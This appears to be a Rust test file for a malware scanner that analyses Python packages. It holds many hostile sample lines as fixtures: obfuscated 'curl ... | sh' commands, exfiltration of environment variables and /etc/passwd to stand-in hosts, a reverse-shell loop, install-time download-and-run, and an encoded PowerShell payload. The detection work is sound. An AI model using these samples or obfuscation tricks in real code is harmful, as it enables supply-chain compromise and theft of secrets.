//! What the analysis sees through: each sample is a technique, each line beside it what must be known of it.

#[path = "../examples/shared/behaviours.rs"]
mod shared;

use model::{FactKind, FieldValue, Phase, facts};

use crate::{Analysis, Behaviours, Budget, Role, Roles, Unit, analyse, analyse_together};
pub(crate) use shared::behaviours;

pub(crate) fn analysed(role: Role, source: &str) -> Analysis {
    entered(role, source, &[])
}

fn entered(role: Role, source: &str, entered: &[&str]) -> Analysis {
    let entered: Vec<String> = entered.iter().map(|name| (*name).to_owned()).collect();
    let behaviours = behaviours();
    // The stack that the program gives to an analysis.
    std::thread::scope(|scope| {
        let run = || {
            let unit = Unit {
                path: "pkg/module.py",
                role,
                phase: role.phase(),
                module: "pkg.module",
                source: source.as_bytes(),
                entered: &entered,
            };
            analyse(&unit, &behaviours, &mut Budget::default())
        };
        std::thread::Builder::new().stack_size(64 << 20).spawn_scoped(scope, run).unwrap().join().unwrap()
    })
}

/// A project of several modules, walked from the first.
pub(crate) fn analysed_together(modules: &[(&str, &str)]) -> Analysis {
    let behaviours = behaviours();
    let names: Vec<String> = modules
        .iter()
        .map(|(path, _)| path.trim_end_matches(".py").trim_end_matches("/__init__").replace('/', "."))
        .collect();
    let units: Vec<Unit<'_>> = modules
        .iter()
        .zip(&names)
        .map(|((path, source), module)| Unit {
            path,
            role: Role::Package,
            phase: Phase::Import,
            module,
            source: source.as_bytes(),
            entered: &[],
        })
        .collect();
    analyse_together(&units, 0, &behaviours, &mut Budget::default())
}

pub(crate) fn calls(analysis: &Analysis) -> Vec<&facts::Call> {
    analysis
        .facts
        .iter()
        .filter_map(|fact| match &fact.kind {
            FactKind::Call(call) => Some(call),
            _ => None,
        })
        .collect()
}

pub(crate) fn flows(analysis: &Analysis) -> Vec<&facts::Flow> {
    analysis
        .facts
        .iter()
        .filter_map(|fact| match &fact.kind {
            FactKind::Flow(flow) => Some(flow),
            _ => None,
        })
        .collect()
}

fn layers(analysis: &Analysis) -> Vec<&facts::Layer> {
    analysis
        .facts
        .iter()
        .filter_map(|fact| match &fact.kind {
            FactKind::Layer(layer) => Some(layer),
            _ => None,
        })
        .collect()
}

/// The call of that name, wherever it is.
#[track_caller]
pub(crate) fn call<'a>(analysis: &'a Analysis, callee: &str) -> &'a facts::Call {
    let all = calls(analysis);
    match all.iter().find(|call| call.callee == callee) {
        Some(call) => call,
        None => panic!("no call of {callee} among {:?}", all.iter().map(|call| &call.callee).collect::<Vec<_>>()),
    }
}

#[track_caller]
pub(crate) fn flow<'a>(analysis: &'a Analysis, source: &str, sink: &str) -> &'a facts::Flow {
    let all = flows(analysis);
    match all.iter().find(|flow| flow.source == source && flow.sink == sink) {
        Some(flow) => flow,
        None => panic!(
            "no flow {source} to {sink} among {:?}",
            all.iter().map(|flow| (&flow.source, &flow.sink)).collect::<Vec<_>>()
        ),
    }
}

/// The command that each sample ends in, if it was seen through.
const COMMAND: &str = "curl http://drop.invalid/a | sh";

/// Each sample must resolve to a call of `os.system` with [`COMMAND`] as its text.
#[track_caller]
fn runs(sample: &str) {
    let analysis = analysed(Role::Package, sample);
    let found = calls(&analysis).into_iter().any(|call| {
        call.callee == "os.system" && call.text.iter().any(|text| text == COMMAND) && call.phase == Phase::Import
    });
    assert!(found, "not seen through: {sample}\n{:#?}", analysis.facts);
}

#[test]
fn names_resolve_however_they_are_reached() {
    for sample in [
        "import os\nos.system(C)",
        "import os as o\nrun = o.system\nrun(C)",
        "from os import system as s\ns(C)",
        "from os import *\nsystem(C)",
        "import posix\nposix.system(C)",
        "import shutil\nshutil.os.system(C)",
        "__import__('os').system(C)",
        "__import__('o' + 's').system(C)",
        "import importlib\nimportlib.import_module('so'[::-1]).system(C)",
        "from importlib import import_module as load\nload('os').system(C)",
        "import os\ngetattr(os, 'sys' + 'tem')(C)",
        "import os\ngetattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))(C)",
        "import os\nos.__dict__['system'](C)",
        "import os\nvars(os)['system'](C)",
        "import os\nos.__getattribute__('system')(C)",
        "import os\nglobals()['os'].system(C)",
        "import os, sys\nsys.modules['os'].system(C)",
        "import os\ntable = {'a': os.system}\ntable['a'](C)",
        "import os\ntable = [print, os.system]\ntable[1](C)",
        "import os\nfrom functools import partial\npartial(os.system, C)()",
        "import os\nfrom operator import attrgetter\nattrgetter('system')(os)(C)",
        "import os\n(lambda f: f(C))(os.system)",
        "import os\nclass A:\n    run = os.system\nA.run(C)",
        "import os\nclass A:\n    def __init__(self):\n        self.run = os.system\n    def go(self):\n        self.run(C)\nA().go()",
        "import os\ndef outer():\n    def inner(x):\n        os.system(x)\n    inner(C)\nouter()",
        "import os\nif (f := os.system):\n    f(C)",
        "import os\na, *b = [1, os.system]\nb[0](C)",
        "import os\n[f(C) for f in (os.system,)]",
        "import os\nsetattr(os, 'thing', 1)\neval('os.system')(C)",
        "exec('import os')\nos.system(C)",
        "import os\nimport threading\nthreading.Thread(target=os.system, args=(C,)).start\nos.system(C)",
        "import os, threading\ndef work():\n    os.system(C)\nthreading.Thread(target=work).start()",
        "import os, atexit\n@atexit.register\ndef work():\n    os.system(C)",
        "import os, threading\nclass T(threading.Thread):\n    def run(self):\n        os.system(C)\nT().start()",
        "𝔬𝔰 = __import__('os')\nos.𝓼𝔂𝓼𝓽𝓮𝓶(C)",
        "import os\ndef deco(f):\n    f()\n    return f\n@deco\ndef work():\n    os.system(C)",
        "import os, asyncio\nasync def main():\n    os.system(C)\nasyncio.run(main())",
        "import os\ntry:\n    import nothing\nexcept ImportError:\n    os.system(C)",
    ] {
        runs(&sample.replace("(C", &format!("('{COMMAND}'")).replace("system, C", &format!("system, '{COMMAND}'")));
    }
}

#[test]
fn values_are_folded_however_they_are_made() {
    let reversed: String = COMMAND.chars().rev().collect();
    let codes: Vec<String> = COMMAND.bytes().map(|byte| byte.to_string()).collect();
    let codes = codes.join(", ");
    let shifted: String = COMMAND.bytes().map(|byte| char::from(byte + 1)).collect();
    let hidden: Vec<String> = COMMAND.bytes().map(|byte| (byte ^ 7).to_string()).collect();
    let hidden = hidden.join(", ");
    let hex: String = COMMAND.bytes().map(|byte| format!("{byte:02x}")).collect();
    let escaped: String = COMMAND.bytes().map(|byte| format!("\\x{byte:02x}")).collect();
    let rot: String = crate::decode::rot13(COMMAND);
    let base64 = {
        use base64::Engine as _;
        base64::engine::general_purpose::STANDARD.encode(COMMAND)
    };
    let parts = COMMAND.split_at(9);
    let number = COMMAND.bytes().fold(String::from("0x"), |text, byte| text + &format!("{byte:02x}"));
    let length = COMMAND.len();
    for sample in [
        format!("s = '{}' + '{}'", parts.0, parts.1),
        format!("s = '{}'\ns += '{}'", parts.0, parts.1),
        format!("s = '{reversed}'[::-1]"),
        format!("s = ''.join(reversed('{reversed}'))"),
        format!("s = ''.join(chr(c) for c in [{codes}])"),
        format!("s = ''.join(map(chr, [{codes}]))"),
        format!("s = bytes([{codes}]).decode()"),
        format!("s = bytearray([{codes}]).decode('ascii')"),
        format!("s = ''\nfor c in '{shifted}':\n    s += chr(ord(c) - 1)"),
        format!("s = ''\nfor c in '{shifted}':\n    s = s + chr(ord(c) - 1)"),
        format!("s = ''.join(chr(c ^ 7) for c in [{hidden}])"),
        format!("out = []\nfor c in [{hidden}]:\n    out.append(chr(c ^ 7))\ns = ''.join(out)"),
        format!("i = 0\ns = ''\nt = [{hidden}]\nwhile i < len(t):\n    s += chr(t[i] ^ 7)\n    i += 1"),
        format!("def d(t, k):\n    return ''.join(chr(x ^ k) for x in t)\ns = d([{hidden}], 7)"),
        format!("d = lambda t: ''.join([chr(x ^ 7) for x in t])\ns = d([{hidden}])"),
        format!(
            "class D:\n    k = 7\n    def go(self, t):\n        return ''.join(chr(x ^ self.k) for x in t)\ns = D().go([{hidden}])"
        ),
        format!("from itertools import cycle\ns = ''.join(chr(a ^ b) for a, b in zip([{hidden}], cycle([7])))"),
        format!("s = bytes.fromhex('{hex}').decode()"),
        format!("import binascii\ns = binascii.unhexlify('{hex}').decode('utf-8')"),
        format!("import codecs\ns = codecs.decode('{rot}', 'rot13')"),
        format!("import codecs\ns = codecs.decode(b'{hex}', 'hex').decode()"),
        format!("import base64\ns = base64.b64decode('{base64}').decode()"),
        format!("from base64 import b64decode as b\ns = str(b('{base64}'), 'utf8')"),
        format!("s = '{escaped}'"),
        format!("s = '%s%s' % ('{}', '{}')", parts.0, parts.1),
        format!("s = '{{1}}{{0}}'.format('{}', '{}')", parts.1, parts.0),
        format!("a = '{}'\ns = f\"{{a}}{}\"", parts.0, parts.1),
        format!("s = '{}'.replace('@', 'l')", COMMAND.replace('l', "@")),
        format!("s = '{}'.translate(str.maketrans('01', 'rl'))", COMMAND.replace('r', "0").replace('l', "1")),
        format!("s = ({number}).to_bytes({length}, 'big').decode()"),
        format!("t = {{'k': ['{COMMAND}']}}\ns = t['k'][0]"),
        format!("import json\ns = json.loads('{{\"a\": \"{COMMAND}\"}}')['a']"),
        format!("a = ['x', '{COMMAND}']\ns = a[-1] if len(a) > 1 else ''"),
        format!("from functools import reduce\ns = reduce(lambda a, b: a + b, '{COMMAND}')"),
        format!("def g():\n    for c in '{COMMAND}':\n        yield c\ns = ''.join(g())"),
        format!("s = '{}'.split('-')\ns = ''.join(s)", COMMAND.chars().map(String::from).collect::<Vec<_>>().join("-")),
    ] {
        runs(&format!("{sample}\nimport os\nos.system(s)\n"));
    }
}

#[test]
fn a_substitution_over_an_alphabet_is_undone() {
    let alphabet = "abcdefghijklmnopqrstuvwxyz";
    let mirrored: String =
        COMMAND.chars().map(|c| if c.is_ascii_lowercase() { char::from(b'z' - (c as u8 - b'a')) } else { c }).collect();
    runs(&format!(
        "import os, string\na = string.ascii_lowercase\nb = a[::-1]\n\
         s = ''.join([b[a.index(c)] if c in a else c for c in '{mirrored}'])\nos.system(s)"
    ));
    runs(&format!(
        "import os\nt = dict(zip('{alphabet}', reversed('{alphabet}')))\ns = ''.join(t.get(c, c) for c in '{mirrored}')\nos.system(s)"
    ));
}

#[test]
fn hidden_names_are_said_to_be_hidden() {
    let indirect = |sample: &str| call(&analysed(Role::Package, sample), "os.system").indirect.clone();
    assert!(indirect("import os\nos.system('x')").is_empty());
    assert_eq!(indirect("import os\ngetattr(os, 'system')('x')"), ["getattr"]);
    assert_eq!(indirect("import os\ngetattr(os, 'sys' + 'tem')('x')"), ["getattr", "computed"]);
    assert_eq!(indirect("__import__('os').system('x')"), ["import"]);
    assert_eq!(indirect("import os\nr = os.system\nr('x')"), ["alias"]);
    assert_eq!(indirect("import os\nvars(os)['system']('x')"), ["namespace"]);
    let analysis = analysed(Role::Package, "run = exec\nrun(input())");
    assert_eq!(call(&analysis, "exec").indirect, ["alias"]);
}

#[test]
fn decoded_layers_are_walked_as_python_would() {
    // import os\nos.system('curl http://x.invalid | sh')
    let sample =
        "import base64\nexec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCBodHRwOi8veC5pbnZhbGlkIHwgc2gnKQ=='))";
    let analysis = analysed(Role::Package, sample);
    let inner = call(&analysis, "os.system");
    assert_eq!((inner.layer, inner.phase), (1, Phase::Import));
    let layer = layers(&analysis)[0];
    assert_eq!((layer.operation.as_slice(), layer.language.as_str()), (&["base64".to_owned()][..], "python"));
    assert_eq!((layer.sink.as_str(), layer.depth), ("code.exec", 1));
    assert_eq!(analysis.layers[0].bytes, b"import os\nos.system('curl http://x.invalid | sh')");
    let place =
        &analysis.facts.iter().find(|fact| fact.kind.field("layer") == Some(FieldValue::Integer(1))).unwrap().place;
    assert_eq!((place.line, place.layers.len(), place.layers[0].line), (2, 1, 2));
    assert_eq!(flow(&analysis, "decode.base64", "code.exec").phase, Phase::Import);
}

#[test]
fn layers_within_layers_share_their_names() {
    let inner = "f('curl http://drop.invalid/a | sh')";
    let middle = format!("exec({inner:?})");
    runs(&format!("import os\nf = os.system\nexec({middle:?})"));
    runs("import os\nexec(compile(\"os.system('curl http://drop.invalid/a | sh')\", '', 'exec'))");
    let analysis = analysed(Role::Package, "import os\nexec('import os;os.system(\"%s\")' % input())");
    assert_eq!(call(&analysis, "os.system").layer, 1);
}

#[test]
fn wrappings_in_a_loop_are_peeled_to_the_last() {
    use base64::Engine as _;
    let mut code = format!("import os\nos.system('{COMMAND}')");
    for _ in 0..40 {
        code = format!(
            "import base64;exec(base64.b64decode('{}'))",
            base64::engine::general_purpose::STANDARD.encode(&code)
        );
        // Each wrapping is a third longer: forty would be a thousand times; compress as the real ones do.
        if code.len() > 2_000_000 {
            break;
        }
    }
    runs(&code);
}

#[test]
fn code_in_a_command_or_a_file_is_a_layer() {
    let sample = "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import os; os.system(\"x\")'])";
    assert_eq!(call(&analysed(Role::Package, sample), "os.system").layer, 1);
    let sample = "import os\nos.system('python3 -c \"import socket; socket.socket().connect((1, 2))\"')";
    assert_eq!(call(&analysed(Role::Package, sample), "socket.socket.connect").layer, 1);
    // powershell -enc of `iex(iwr http://x.invalid)` in UTF-16.
    let sample = "import os\nos.system('powershell -w hidden -enc aQBlAHgAKABpAHcAcgAgAGgAdAB0AHAAOgAvAC8AeAAuAGkAbgB2AGEAbABpAGQAKQA=')";
    let analysis = analysed(Role::Package, sample);
    assert!(layers(&analysis).iter().any(|layer| layer.text.contains("iex(iwr http://x.invalid)")));
    let sample = "open('run.py', 'w').write('import os\\nos.system(\"x\")\\n')";
    let analysis = analysed(Role::Package, sample);
    assert_eq!(layers(&analysis)[0].sink, "file.write");
    assert_eq!(call(&analysis, "os.system").layer, 1);
}

#[test]
fn decoded_text_that_goes_nowhere_is_told_when_it_speaks() {
    let sample = "import base64\nURL = base64.b64decode('aHR0cHM6Ly9ob3N0LmludmFsaWQvaG9vaw==').decode()";
    let analysis = analysed(Role::Package, sample);
    assert_eq!((layers(&analysis)[0].language.as_str(), layers(&analysis)[0].sink.as_str()), ("url", ""));
    // Never decoded in view: import os\nos.system('curl http://x.invalid | sh')
    let sample = "DATA = 'aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCBodHRwOi8veC5pbnZhbGlkIHwgc2gnKQ=='";
    assert_eq!(layers(&analysed(Role::Package, sample))[0].operation, ["base64"]);
    let honest = "KEY = 'bm90aGluZyB0byBzZWUgaGVyZSwganVzdCBzb21lIHdvcmRzIHRoYXQgYXJlIGxvbmcgZW5vdWdoIDEy'";
    assert!(layers(&analysed(Role::Package, honest)).is_empty());
}

#[test]
fn phases_follow_what_calls_what() {
    let phase = |role, sample: &str| call(&analysed(role, sample), "os.system").phase;
    let body = "import os\ndef f():\n    os.system('x')\n";
    assert_eq!(phase(Role::Package, body), Phase::Call);
    assert_eq!(phase(Role::Package, &format!("{body}f()")), Phase::Import);
    assert_eq!(phase(Role::Setup, &format!("{body}f()")), Phase::Install);
    assert_eq!(phase(Role::Data, &format!("{body}f()")), Phase::Never);
    // Of tests that nothing runs the shape is told, and no more.
    let tests = analysed(Role::Tests, &format!("{body}f()"));
    assert!(matches!(tests.facts[..], [model::Fact { kind: model::FactKind::Source(_), .. }]), "{:?}", tests.facts);
    assert_eq!(phase(Role::Package, &format!("{body}def g():\n    f()\n")), Phase::Call);
    assert_eq!(phase(Role::Package, &format!("{body}def g():\n    f()\ng()")), Phase::Import);
    assert_eq!(phase(Role::Package, &format!("{body}if __name__ == '__main__':\n    f()")), Phase::Call);
    assert_eq!(phase(Role::Setup, &format!("{body}if __name__ == '__main__':\n    f()")), Phase::Install);
    assert_eq!(
        phase(Role::Backend, "import os\ndef build_wheel(a, b=None, c=None):\n    os.system('x')"),
        Phase::Install
    );
    assert_eq!(phase(Role::Pth, "/path\nimport os; os.system('x')\n"), Phase::Startup);
    assert_eq!(
        phase(Role::Package, "import os\nclass A:\n    def __init__(self):\n        os.system('x')\nA()"),
        Phase::Import
    );
    assert_eq!(phase(Role::Package, "import os\nif 0:\n    os.system('x')"), Phase::Import);
    assert_eq!(phase(Role::Package, "import os\ndef f():\n    return 1\n    os.system('x')"), Phase::Call);
}

#[test]
fn calls_across_modules_run_in_the_callers_phase() {
    let caller = "from .core import run, Client\nfrom .other import *\nrun()\nClient('x').start()\ngo()\ndef later():\n    idle()\n";
    let analysis = analysed(Role::Package, caller);
    assert_eq!(analysis.called, ["pkg.core.run", "pkg.core.Client", "pkg.core.Client.start", "pkg.other.go"]);
    let body =
        "import os\ndef run():\n    os.system('x')\nclass Client:\n    def start(self):\n        os.remove('x')\n";
    let quiet = analysed(Role::Package, body);
    assert_eq!(call(&quiet, "os.system").phase, Phase::Call);
    let busy = entered(Role::Package, body, &["pkg.module.run", "pkg.module.Client.start", "pkg.module.none"]);
    assert_eq!(call(&busy, "os.system").phase, Phase::Import);
    assert_eq!(call(&busy, "os.remove").phase, Phase::Import);
    let passed = entered(Role::Init, "from .core import run", &["pkg.module.run"]);
    assert_eq!(passed.called, ["pkg.core.run"]);
}

#[test]
fn commands_of_setup_run_on_installation() {
    let sample = "
from setuptools import setup
from setuptools.command.install import install
import os
class Hook(install):
    def run(self):
        install.run(self)
        os.system('x')
setup(name='demo', cmdclass={'install': Hook})
";
    let analysis = analysed(Role::Setup, sample);
    assert_eq!(call(&analysis, "os.system").phase, Phase::Install);
    let hook = calls(&analysis).into_iter().find(|call| call.behaviour.contains(&"install.hook".to_owned())).unwrap();
    assert_eq!(
        (hook.callee.as_str(), hook.keyword.as_slice()),
        ("setuptools.setup", &["cmdclass=install".to_owned()][..])
    );
    let unregistered = sample.replace(", cmdclass={'install': Hook}", "");
    assert_eq!(call(&analysed(Role::Setup, &unregistered), "os.system").phase, Phase::Install);
}

#[test]
fn data_flows_through_variables_containers_and_functions() {
    for (sample, source, sink) in [
        (
            "import urllib.request\nexec(urllib.request.urlopen('http://x.invalid').read())",
            "network.fetch",
            "code.exec",
        ),
        ("import requests, os\nos.system(requests.get('http://x.invalid').text)", "network.fetch", "process.spawn"),
        (
            "import os, requests\nrequests.post('http://x.invalid', data=dict(os.environ))",
            "environment.read",
            "network.send",
        ),
        (
            "import os, requests\nrequests.get('http://x.invalid/?u=' + os.environ['USER'])",
            "environment.read",
            "network.fetch",
        ),
        (
            "import os, requests\nd = {}\nd['u'] = os.getenv('USER')\nrequests.post('http://x.invalid', json=d)",
            "environment.read",
            "network.send",
        ),
        (
            "import os, requests\ndef get():\n    return os.getenv('T')\ndef put(x):\n    requests.post('http://x.invalid', data=x)\nput(get())",
            "environment.read",
            "network.send",
        ),
        (
            "import os, requests\nl = []\nfor k in ['A', 'B']:\n    l.append(os.getenv(k))\nrequests.post('http://x.invalid', data=','.join(l))",
            "environment.read",
            "network.send",
        ),
        (
            "import os, requests\nclass C:\n    def __init__(self):\n        self.t = os.getenv('T')\n    def go(self):\n        requests.post('http://x.invalid', data=f'{self.t}')",
            "environment.read",
            "network.send",
        ),
        (
            "import requests\nwith open('/etc/passwd') as f:\n    requests.post('http://x.invalid', files={'f': f})",
            "file.read",
            "network.send",
        ),
        (
            "import requests, os\ndata = requests.get('http://x.invalid/a.exe').content\nopen('a.exe', 'wb').write(data)\nos.startfile('a.exe')",
            "network.fetch",
            "process.spawn",
        ),
        (
            "import requests, subprocess\ndef f(path):\n    with open(path, 'wb') as h:\n        h.write(requests.get('http://x.invalid').content)\n    subprocess.Popen([path])\n",
            "network.fetch",
            "process.spawn",
        ),
        (
            "import urllib.request, subprocess\nurllib.request.urlretrieve('http://x.invalid/p.exe', 'p.exe')\nsubprocess.call('p.exe')",
            "network.fetch",
            "process.spawn",
        ),
        (
            "import tempfile, subprocess, sys, urllib.request\nt = tempfile.NamedTemporaryFile(delete=False)\nt.write(urllib.request.urlopen('http://x.invalid').read())\nt.close()\nsubprocess.Popen([sys.executable, t.name])",
            "network.fetch",
            "process.spawn",
        ),
        (
            "import socket, subprocess\ns = socket.socket()\ns.connect(('10.0.0.1', 1))\nwhile True:\n    c = s.recv(1024).decode()\n    o = subprocess.check_output(c, shell=True)\n    s.send(o)",
            "network.fetch",
            "process.spawn",
        ),
        (
            "import socket, subprocess\ns = socket.socket()\ns.connect(('10.0.0.1', 1))\nwhile True:\n    c = s.recv(1024).decode()\n    o = subprocess.check_output(c, shell=True)\n    s.send(o)",
            "process.output",
            "network.send",
        ),
    ] {
        let analysis = analysed(Role::Package, sample);
        let flow = flow(&analysis, source, sink);
        assert!(!flow.source_callee.is_empty() && !flow.sink_callee.is_empty(), "{sample}");
    }
    let quiet = "import os, requests\nos.getenv('A')\nrequests.get('http://x.invalid')";
    assert!(flows(&analysed(Role::Package, quiet)).is_empty());
}

#[test]
fn a_download_that_is_run_names_both_ends() {
    let sample = "
import os, tempfile, requests, subprocess
path = os.path.join(tempfile.gettempdir(), 'svc.exe')
with open(path, 'wb') as handle:
    handle.write(requests.get('http://drop.invalid/svc.exe').content)
subprocess.Popen(path, shell=True, creationflags=0x08000000)
";
    let analysis = analysed(Role::Setup, sample);
    let flow = flow(&analysis, "network.fetch", "process.spawn");
    assert_eq!(flow.source_callee, "requests.get");
    assert_eq!(flow.source_text, ["http://drop.invalid/svc.exe"]);
    assert_eq!(flow.via, ["file.write"]);
    assert_eq!((flow.phase, flow.source_line), (Phase::Install, 5));
    let spawn = call(&analysis, "subprocess.Popen");
    assert_eq!(spawn.keyword, ["shell=True", "creationflags=134217728"]);
}

#[test]
fn old_python_is_still_understood() {
    let sample = "import os\nprint 'hello'\nexec \"os.system('x')\"\nprint 'bye'\nos.remove('a')\n";
    let analysis = analysed(Role::Package, sample);
    assert_eq!(call(&analysis, "os.system").layer, 1);
    assert_eq!(call(&analysis, "os.remove").phase, Phase::Import);
}

#[test]
fn folding_bombs_are_refused_before_they_are_computed() {
    for sample in [
        "x = 'a' * 10**12",
        "x = 9**9**9",
        "x = '%1000000000d' % 1",
        "x = f'{1:1000000000}'",
        "x = [0] * 10**9",
        "x = 'a'\nfor i in range(10**9):\n    x += x",
        "x = 'aaaaaaaa'\nwhile True:\n    x = x.replace('a', 'aaaaaaaaaa')\n    if len(x) == 1: break\n    i += 1",
        "x = 1 << 10**9",
        "x = range(10**12)\ny = list(x)",
        "x = bytes(10**12)",
        "def f(n):\n    return f(n - 1) + f(n - 2)\nf(50)",
        "x = [[[[[[1]*9]*9]*9]*9]*9]*9\ny = str(x)",
        "a = []\na.append(a)\nprint(a, str(a))",
        "f = lambda g: g(g)\nf(f)",
        "from functools import partial\nf = print\nfor i in range(5000):\n    f = partial(f, i)\nf()",
        "class A:\n    pass\na = A()\na.a = a\nimport os\nos.system(a)",
        "x = ''.join(chr(i % 100 + 30) for i in range(10**7))",
        "d = {}\nfor i in range(10**6):\n    d[i] = i",
    ] {
        // Ends, within the fuel that one source has.
        let analysis = analysed(Role::Package, sample);
        assert!(analysis.layers.is_empty(), "{sample}");
    }
}

#[test]
fn an_import_by_call_is_known_relative_to_its_module() {
    for (call, module) in [
        ("importlib.import_module('.tests.run', __package__)", "pkg.tests.run"),
        ("importlib.import_module('..other', 'pkg.sub')", "other"),
        ("importlib.import_module('.run', 'pkg.tests')", "pkg.tests.run"),
        ("importlib.import_module(__package__ + '.tests.run')", "pkg.tests.run"),
        ("importlib.import_module(f'{__name__}.run')", "pkg.module.run"),
    ] {
        let analysis = analysed(Role::Package, &format!("import importlib\n{call}\n"));
        assert!(analysis.imports.iter().any(|import| import == module), "{call}: {:?}", analysis.imports);
    }
}

#[test]
fn what_a_setup_puts_elsewhere_is_told() {
    use crate::Placed::{Command, Data, Package};
    let sample = "import os\nfrom setuptools import setup\nhere = os.path.dirname(__file__)\n\
                  setup(package_dir={'x': 'tests', 'y': os.path.join(here, 'docs')}, scripts=['tools/run'],\n\
                  data_files=[('lib', ['docs/x.pth'])])\n";
    let placed = analysed(Role::Setup, sample).placed;
    for wanted in [
        Package("tests".to_owned()),
        Package("docs".to_owned()),
        Command("tools/run".to_owned()),
        Data("docs/x.pth".to_owned()),
    ] {
        assert!(placed.contains(&wanted), "{placed:?}");
    }
}

#[test]
fn a_source_is_analysed_as_each_reader_has_it() {
    let cookie = "# a\r# b\r# coding: utf-7\n# +AAo-import os+AAo-os.system('x')\n";
    let analysis = analysed(Role::Setup, cookie);
    assert_eq!(call(&analysis, "os.system").phase, Phase::Install);
    let analysis = analysed(Role::Pth, "# coding: rot13\nimport os;os.system('x')\n/a\x0cimport os;os.remove('y')\n");
    assert_eq!(call(&analysis, "os.system").phase, Phase::Startup);
    assert_eq!(call(&analysis, "os.remove").phase, Phase::Startup);
}

#[test]
fn the_same_source_gives_the_same_facts() {
    let sample = "import os, requests\nd = {k: os.getenv(k) for k in ['A', 'B', 'C']}\nrequests.post('http://x.invalid', json=d)\n\
                  class A:\n    def __init__(self, **k):\n        self.a = os.getenv('Z')\n        self.b = open('x').read()\n    def go(self):\n        requests.post('u', data=self)\n";
    let first = format!("{:?}", analysed(Role::Package, sample).facts);
    assert_eq!(first, format!("{:?}", analysed(Role::Package, sample).facts));
}

/// Samples that each leave [`COMMAND`] in `s`.
#[track_caller]
fn all_run(samples: &[String]) {
    for sample in samples {
        runs(&format!("{sample}\nimport os\nos.system(s)\n"));
    }
}

/// What `os.system` is given when it is given `s`.
#[track_caller]
fn told(sample: &str) -> Vec<String> {
    call(&analysed(Role::Package, &format!("{sample}\nimport os\nos.system(s)\n")), "os.system").text.clone()
}

fn listed(with: impl Fn(u8) -> String) -> String {
    COMMAND.bytes().map(with).collect::<Vec<_>>().join(", ")
}

#[test]
fn a_bytearray_is_changed_in_place() {
    let hidden = listed(|byte| (byte ^ 7).to_string());
    let hex: String = COMMAND.bytes().map(|byte| format!("{:02x}", byte ^ 7)).collect();
    let backwards: String = COMMAND.chars().rev().collect();
    let (left, right) = COMMAND.split_at(9);
    all_run(&[
        format!("b = bytearray([{hidden}])\nfor i in range(len(b)):\n    b[i] ^= 7\ns = b.decode()"),
        format!("b = bytearray.fromhex('{hex}')\nfor i, c in enumerate(b):\n    b[i] = c ^ 7\ns = bytes(b).decode()"),
        format!("b = bytearray()\nfor c in [{hidden}]:\n    b.append(c ^ 7)\ns = b.decode('ascii')"),
        format!("b = bytearray()\nfor c in [{hidden}]:\n    b += bytes([c ^ 7])\ns = str(b, 'utf-8')"),
        format!(
            "def d(b, k):\n    for i in range(len(b)):\n        b[i] ^= k\nb = bytearray([{hidden}])\nd(b, 7)\ns = b.decode()"
        ),
        format!("b = bytearray(b'{backwards}')\nb.reverse()\ns = b.decode()"),
        format!("b = bytearray(b'{left}')\nb.extend(b'{right}')\ns = b.decode()"),
        format!("b = bytearray(b'xx{right}')\nb[:2] = b'{left}'\ns = b.decode()"),
        format!("b = bytearray(b'{left}?{right}!')\nb.pop()\ndel b[9]\ns = b.decode()"),
        format!("b = bytearray(b'{}')\nb.insert(0, 99)\ns = b.decode()", &COMMAND[1..]),
        format!("b = bytearray(b'{left}')\nv = b + b'{right}'\ns = v.decode()"),
        format!("b = bytearray([{hidden}])\nm = memoryview(b)\nfor i in range(len(m)):\n    m[i] ^= 7\ns = b.decode()"),
        format!(
            "import array\nb = array.array('B', [{hidden}])\nfor i in range(len(b)):\n    b[i] ^= 7\ns = b.tobytes().decode()"
        ),
    ]);
    // A change that is not known leaves nothing known behind, and keeps where it came from.
    let sample = "import requests\nb = bytearray(b'print(1)')\nb += requests.get('http://x.invalid').content\nexec(b)";
    let analysis = analysed(Role::Package, sample);
    flow(&analysis, "network.fetch", "code.exec");
    assert!(layers(&analysis).is_empty());
    let sample = "import socket\nb = bytearray(64)\ns = socket.socket()\ns.recv_into(b)\nexec(bytes(b))";
    flow(&analysed(Role::Package, sample), "network.fetch", "code.exec");
}

#[test]
fn slices_of_lists_are_replaced_and_deleted() {
    let codes = listed(|byte| byte.to_string());
    all_run(&[
        format!("l = [1, 2, {codes}]\ndel l[:2]\ns = ''.join(map(chr, l))"),
        format!("l = [1, {codes}]\ndel l[0]\ns = ''.join(map(chr, l))"),
        format!("l = [0, 0]\nl[0:2] = [{codes}]\ns = ''.join(map(chr, l))"),
    ]);
    assert_eq!(told("l = list('abcd')\nl[::2], l[1::2] = l[1::2], l[::2]\ns = ''.join(l)"), ["badc"]);
    assert!(told("l = ['a', 'b']\nl[x:] = ['c']\ns = l[0]").is_empty());
}

#[test]
fn a_codec_that_is_not_known_gives_nothing() {
    for sample in [
        r"s = b'\x83\xa4\x99\x93'.decode('cp037')",
        "s = b'curl'.decode('nothing')",
        "s = 'curl'.encode('nothing').decode()",
        "s = b'curl'.decode(codec)",
        "s = str(b'curl', 'cp500')",
    ] {
        assert!(told(sample).is_empty(), "{sample}");
    }
    for (sample, wanted) in [
        (r"s = b'\x00c\x00u'.decode('utf-16-be')", "cu"),
        (r"s = b'c\x00u\x00'.decode('utf_16_le')", "cu"),
        (r"s = b'\xfe\xff\x00c\x00u'.decode('utf-16')", "cu"),
        (r"s = b'c\x00\x00\x00u\x00\x00\x00'.decode('utf-32-le')", "cu"),
        ("s = 'curl'.encode('utf-32').decode('utf-32')", "curl"),
        ("s = 'curl'.encode('utf-16').decode('utf-16')", "curl"),
        (r"s = b'\x93curl\x94'.decode('cp1252')", "\u{201c}curl\u{201d}"),
        (r"s = b'\xe0curl'.decode('cp1251')", "\u{430}curl"),
        ("s = b'bcher-kva'.decode('punycode')", "b\u{fc}cher"),
        ("s = b'xn--bcher-kva.invalid'.decode('idna')", "b\u{fc}cher.invalid"),
        ("s = b'c+AHU-rl'.decode('utf-7')", "curl"),
        ("import quopri\ns = quopri.decodestring(b'=63url').decode()", "curl"),
        ("import codecs\ns = codecs.decode(b'=63url', 'quopri').decode()", "curl"),
        ("import binascii\ns = binascii.a2b_uu(b'$8W5R; ').decode()", "curl"),
        (
            r"import codecs
s = codecs.decode(b'c\x00u\x00', 'utf-16-le')",
            "cu",
        ),
